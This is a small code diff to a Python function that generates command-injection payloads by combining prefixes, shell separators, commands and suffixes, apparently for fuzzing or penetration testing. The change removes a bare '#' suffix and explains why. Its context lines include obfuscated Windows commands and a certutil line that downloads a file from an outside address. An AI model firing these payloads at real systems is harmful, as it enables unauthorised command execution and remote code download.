@@ -348,7 +348,8 @@ def cmdi_matrix():
                "set", "echo %USERNAME%", "who^ami", "c^md /c di^r", "certutil -urlcache -f http://203.0.113.9/x x"]
     before = ["", "1", "127.0.0.1", "alex", "x'", 'x"', "'", '"', "1)", "x')", 'x")']
     seps = [";", " ; ", "|", " | ", "||", "&", " & ", "&&", " && ", "\n", "\r\n", "%0a", "$(", "`", "\n\n"]
-    after = ["", "#", " #", ";", " &", "|", "'", '"', " ;'", " #'", "\n"]
+    # a # opens a comment only at the start of a word: whoami# is a command that does not exist
+    after = ["", " #", ";", " &", "|", "'", '"', " ;'", " #'", "\n"]
     out = []
     for b in before:
         for s in seps:
